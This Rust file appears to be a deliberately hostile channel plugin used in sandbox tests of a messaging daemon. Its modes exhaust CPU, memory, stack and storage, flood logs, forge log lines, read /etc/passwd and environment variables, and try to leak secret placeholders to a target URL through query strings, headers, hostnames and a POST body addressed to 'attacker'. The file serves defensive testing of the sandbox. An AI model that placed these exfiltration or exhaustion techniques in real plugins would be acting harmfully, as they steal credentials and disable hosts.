//! A channel that misbehaves on purpose. The instance setting `mode` picks the
//! attack; `well-behaved` emits one message per request like a normal channel.
//! The sandbox tests run each mode through the real daemon and check that only
//! the offending call fails.
//!
//! Modes: `loop`, `memory`, `recursion`, `emit-flood`, `huge-emit`, `panic`,
//! `log-flood`, `stdout-flood`, `fetch` and `fetch-flood` (GET the `target`
//! setting once, or until refused), `secret-echo`, `secret-host`, `read-file`,
//! `read-env`, `echo-request` (hand back and store every request header and the
//! query), `log-request` (log them), `secret-body` (POST the `target` setting with
//! a secret placeholder in the body), `state-flood` (write state until refused),
//! `hop-by-hop` (answer with the `status` setting, 101 by default, and hop-by-hop
//! headers), `hook-loop` and `reply-loop` (spin in `on-message-persisted` or
//! `on-respond`), `big-answer` (answer every request with 1 MiB), `error-forge` (log, fail hooks and fail replies with huge
//! strings that carry forged log lines); anything else is well-behaved.

#[expect(unsafe_code, reason = "generated bindings")]
mod bindings {
    wit_bindgen::generate!({ world: "full", path: "../../../wit/channel@0.1.0" });

    use super::Hostile;
    export!(Hostile);
}

use bindings::exports::switchboard::channel::channel::Guest;
use bindings::exports::switchboard::channel::persistence::Guest as Persistence;
use bindings::switchboard::channel::host;
use bindings::switchboard::channel::types::{
    DeliveryError, HttpRequest, HttpResponse, InboundMessage, MessageKind, OutboundMessage,
    OutgoingRequest, Receipt,
};

struct Hostile;

fn message(id: String, text: String) -> InboundMessage {
    InboundMessage {
        external_id: id,
        conversation_id: "c1".to_owned(),
        sender_id: "s1".to_owned(),
        sender_name: None,
        text: Some(text),
        timestamp: 0,
        reply_to: None,
        kind: MessageKind::Text,
        is_edit: false,
        metadata: "{}".to_owned(),
    }
}

fn ok(body: String) -> HttpResponse {
    HttpResponse {
        status: 200,
        headers: vec![("content-type".to_owned(), "text/plain".to_owned())],
        body: body.into_bytes(),
    }
}

#[inline(never)]
#[expect(unconditional_recursion, reason = "exhausting the stack is the point")]
fn recurse(depth: u64, pad: &mut [u8; 256]) -> u64 {
    pad[(depth % 256) as usize] = depth as u8;
    let mut next = [0u8; 256];
    next.copy_from_slice(pad);
    1 + recurse(depth + 1, &mut next) + u64::from(next[0])
}

fn fetch(url: String, headers: Vec<(String, String)>) -> String {
    send("GET", url, headers, Vec::new())
}

fn send(method: &str, url: String, headers: Vec<(String, String)>, body: Vec<u8>) -> String {
    let request = OutgoingRequest {
        method: method.to_owned(),
        url,
        headers,
        body,
        timeout_ms: Some(500),
    };
    match host::http_fetch(&request) {
        Ok(response) => format!(
            "status {} headers {:?} body {}",
            response.status,
            response.headers,
            String::from_utf8_lossy(&response.body)
        ),
        Err(e) => format!("fetch error: {e:?}"),
    }
}

/// Every header, the query and the body, as a guest trying to collect secrets would
/// see them.
fn describe(request: &HttpRequest) -> String {
    format!(
        "headers {:?} query {} body {:?}",
        request.headers,
        request.query,
        String::from_utf8_lossy(&request.body)
    )
}

/// Burns CPU without ever returning (the optimiser cannot prove the loop endless).
fn spin() -> u64 {
    let mut x: u64 = 1;
    loop {
        x = x.wrapping_mul(6364136223846793005).wrapping_add(1);
        if x == 0 {
            return x;
        }
    }
}

/// A string that tries to forge a log line of its own and is far larger than any
/// sane error message (`pads` times eight bytes of padding).
fn forged(what: &str, pads: usize) -> String {
    format!(
        "{what} failed\n2026-01-01T00:00:00Z  INFO switchboard: forged line \u{1b}[31mred\r\n{}",
        "padding ".repeat(pads)
    )
}

fn mode() -> String {
    host::setting("mode").unwrap_or_default()
}

impl Guest for Hostile {
    fn on_http_request(request: HttpRequest) -> HttpResponse {
        let mode = mode();
        let target = host::setting("target").unwrap_or_default();
        let id = String::from_utf8_lossy(&request.body).trim().to_owned();
        match mode.as_str() {
            "loop" => ok(spin().to_string()),
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    if hoard.len() == usize::MAX {
                        return ok(String::new());
                    }
                }
            }
            "recursion" => {
                let mut pad = [0u8; 256];
                ok(recurse(0, &mut pad).to_string())
            }
            "emit-flood" => {
                for n in 0..1_000_000u64 {
                    let _ = host::emit(&message(format!("{id}-{n}"), "flood".to_owned()));
                }
                ok(String::new())
            }
            "huge-emit" => {
                let _ = host::emit(&message(id, "x".repeat(32 << 20)));
                ok(String::new())
            }
            "panic" => panic!("deliberate panic in a hostile guest"),
            "stdout-flood" => {
                use std::io::Write as _;
                let mut out = std::io::stdout();
                for _ in 0..100_000 {
                    // Writes beyond the host's pipe capacity fail; carry on regardless.
                    let _ = writeln!(out, "{}", "noise ".repeat(100));
                }
                let _ = host::emit(&message(id, "survived the stdout flood".to_owned()));
                ok(String::new())
            }
            "log-flood" => {
                for _ in 0..100_000 {
                    host::log(host::LogLevel::Info, &"spam ".repeat(100));
                }
                let _ = host::emit(&message(id, "survived the log flood".to_owned()));
                ok(String::new())
            }
            "fetch" => ok(fetch(target, Vec::new())),
            "fetch-flood" => {
                let mut answered = 0;
                let mut refused = None;
                for _ in 0..1_000 {
                    let answer = fetch(target.clone(), Vec::new());
                    if answer.starts_with("status ") {
                        answered += 1;
                    } else {
                        refused = Some(answer);
                        break;
                    }
                }
                ok(format!("answered {answered}; then {refused:?}"))
            }
            "echo-request" => {
                let seen = describe(&request);
                let _ = host::emit(&message(id, seen.clone()));
                ok(seen)
            }
            "log-request" => {
                let seen = describe(&request);
                host::log(host::LogLevel::Error, &seen);
                println!("stdout {seen}");
                eprintln!("stderr {seen}");
                ok("logged".to_owned())
            }
            "secret-echo" => ok(fetch(
                format!("{target}?leak={{{{secret:api_key}}}}"),
                vec![("x-leak".to_owned(), "{{secret:api_key}}".to_owned())],
            )),
            "steal-token" => ok(fetch(
                format!("{target}?token={{{{secret:token}}}}"),
                Vec::new(),
            )),
            "secret-host" => ok(fetch(
                "http://{{secret:api_key}}.example.com/".to_owned(),
                Vec::new(),
            )),
            "secret-body" => ok(send(
                "POST",
                target,
                vec![("content-type".to_owned(), "application/json".to_owned())],
                br#"{"chat_id":"attacker","text":"{{secret:api_key}}"}"#.to_vec(),
            )),
            "state-flood" => {
                let value = vec![7u8; 60 * 1024];
                let mut stored = 0u64;
                let refusal = loop {
                    match host::state_set(&format!("{id}-{stored}"), &value) {
                        Ok(()) => stored += 1,
                        Err(e) => break e,
                    }
                    if stored == 1_000_000 {
                        break "never refused".to_owned();
                    }
                };
                ok(format!("stored {stored}; then {refusal}"))
            }
            "big-answer" => ok("x".repeat(1 << 20)),
            "hop-by-hop" => {
                let status = host::setting("status")
                    .and_then(|s| s.parse().ok())
                    .unwrap_or(101);
                let header = |name: &str, value: &str| (name.to_owned(), value.to_owned());
                HttpResponse {
                    status,
                    headers: vec![
                        header("upgrade", "websocket"),
                        header("connection", "upgrade, x-hostile"),
                        header("keep-alive", "timeout=600"),
                        header("te", "trailers"),
                        header("trailer", "x-forged"),
                        header("transfer-encoding", "chunked"),
                        header("proxy-connection", "keep-alive"),
                        header("x-hostile", "hop"),
                        header("x-kept", "yes"),
                    ],
                    body: b"hop".to_vec(),
                }
            }
            "read-file" => ok(match std::fs::read_to_string("/etc/passwd") {
                Ok(text) => format!("read {} bytes", text.len()),
                Err(e) => format!("file error: {e}"),
            }),
            "read-env" => ok(format!("env: {:?}", std::env::vars().collect::<Vec<_>>())),
            _ => {
                if mode == "error-forge" {
                    // Within the call's log budget, past any sane line.
                    host::log(host::LogLevel::Warn, &forged("logging", 4_000));
                }
                let text = String::from_utf8_lossy(&request.body).into_owned();
                match host::emit(&message(id, text)) {
                    Ok(()) => ok("stored".to_owned()),
                    Err(e) => HttpResponse {
                        status: 400,
                        headers: Vec::new(),
                        body: e.into_bytes(),
                    },
                }
            }
        }
    }

    fn on_respond(_message: OutboundMessage) -> Result<Receipt, DeliveryError> {
        match mode().as_str() {
            "reply-loop" => Err(DeliveryError {
                message: spin().to_string(),
                retryable: true,
                retry_after_secs: None,
            }),
            "error-forge" => Err(DeliveryError {
                message: forged("reply", 200_000),
                retryable: false,
                retry_after_secs: None,
            }),
            _ => Ok(Receipt { external_id: None }),
        }
    }
}

impl Persistence for Hostile {
    fn on_message_persisted(_message: InboundMessage) -> Result<(), String> {
        match mode().as_str() {
            "hook-loop" => Err(spin().to_string()),
            "error-forge" => Err(forged("hook", 200_000)),
            _ => Ok(()),
        }
    }
}
